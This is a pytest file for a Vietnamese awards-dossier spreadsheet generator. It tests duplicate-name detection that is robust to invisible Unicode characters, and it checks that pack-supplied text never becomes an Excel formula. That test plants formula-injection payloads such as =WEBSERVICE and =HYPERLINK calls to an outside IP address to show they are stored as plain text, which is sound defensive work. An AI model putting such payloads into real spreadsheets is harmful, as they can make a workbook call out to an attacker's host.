"""Small crafted inputs (issue 12, parts 2–5): nothing leaks, nothing hangs or eats the machine, every
refusal is one clear line with exit code 3, and invisible characters do not make a second person."""

import copy
import html
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from kit.api import load_sample, workbook_bytes
from kit.cli import main

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = load_sample(ROOT / "samples" / "ho-so-khen-thuong-so-noi-vu.toml")


def run(capsys, *args):
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


# --- 5. Identity of people ------------------------------------------------------------------------

@pytest.mark.parametrize("invisible", ["\u200e", "\u00ad", "\u202e", "\u034f", "\u3164", "\U000e0041\U000e007f",
                                       "\u2066", "\u180e"])
def test_an_invisible_character_does_not_make_a_second_person(tmp_path, capsys, invisible):
    data = copy.deepcopy(SAMPLE)
    twin = copy.deepcopy(data["danh_sach"][0])
    assert twin["ten"] == "Nguyễn Văn An"
    twin["ten"] = f"Nguyễn Văn{invisible} An"
    data["danh_sach"].append(twin)
    workbook = tmp_path / "hs.xlsx"
    workbook.write_bytes(workbook_bytes("ho-so-khen-thuong", data))
    code, out, err = run(capsys, "dossier", workbook, "-o", tmp_path / "out")
    assert code == 3 and out == ""
    assert err.startswith("Lỗi: hs.xlsx, sheet 'Danh sách', ô B7 (Họ và tên / Tên tập thể): “Nguyễn Văn")
    assert "có hai lần trong danh sách (dòng 2)" in err
    assert not (tmp_path / "out").exists()


# --- 2. Nothing leaks: pack text never becomes a formula --------------------------------------------

LANG_SON = ROOT / "samples" / "packs" / "lang-son"


@pytest.fixture
def isolated(tmp_path, monkeypatch):
    """Pack discovery confined to the test."""
    monkeypatch.setenv("KIT_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.delenv("KIT_PACKS", raising=False)
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    return tmp_path


def _formulas(xlsx: Path) -> list[str]:
    archive = zipfile.ZipFile(xlsx)
    return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
            and re.search(rb"<(?:\w+:)?f[ >/]", archive.read(name))]


def _all_text(xlsx: Path) -> str:
    archive = zipfile.ZipFile(xlsx)
    return html.unescape("".join(archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".xml")))


def test_pack_text_is_written_as_text_never_as_a_formula(isolated, tmp_path, capsys, monkeypatch):
    pack = tmp_path / "packs" / "p"
    shutil.copytree(LANG_SON, pack)
    toml = (pack / "pack.toml").read_text(encoding="utf-8").replace('id = "lang-son"', 'id = "p"', 1)
    (pack / "pack.toml").write_text(toml, encoding="utf-8")
    with open(pack / "data" / "awards.toml", "a", encoding="utf-8") as awards:
        awards.write('\n[[awards]]\nname = "=WEBSERVICE(\\"http://203.0.113.9/x\\")"\nkind = "ca_nhan"\nthreshold = 50\n')
    form = (ROOT / "forms" / "ke-hoach.toml").read_text(encoding="utf-8")
    form = form.replace('id = "ke-hoach"', 'id = "chuong-trinh"', 1).replace('sample = "ke-hoach-tdkt-2021-so-khdt-lang-son.toml"', "")
    form = form.replace('lines = [\n', 'lines = [\n    "=HYPERLINK(\\"http://203.0.113.9/\\",\\"Bấm\\")",\n', 1)
    form = form.replace('header = ["Thông tin", "Nội dung", "Hướng dẫn"]', 'header = ["=1+1", "Nội dung", "Hướng dẫn"]')
    form = form.replace('help = "Cơ quan cấp trên trực tiếp', 'help = "=2+2 Cơ quan cấp trên trực tiếp')
    form = form.replace('label = "Cơ quan chủ quản"', 'label = "=3+3"')
    (pack / "forms" / "chuong-trinh.toml").write_text(form, encoding="utf-8")
    monkeypatch.setenv("KIT_PACKS", str(pack.parent))
    for template in ("ho-so-khen-thuong", "chuong-trinh"):
        target = tmp_path / f"{template}.xlsx"
        code, _, err = run(capsys, "form", template, "--pack", "p", "-o", target)
        assert code == 0, err
        assert _formulas(target) == []
    text = _all_text(tmp_path / "ho-so-khen-thuong.xlsx")
    assert '<t>=WEBSERVICE("http://203.0.113.9/x")</t>' in text
    text = _all_text(tmp_path / "chuong-trinh.xlsx")
    for typed in ("=HYPERLINK(", "=1+1", "=2+2 Cơ quan", "=3+3"):
        assert typed in text
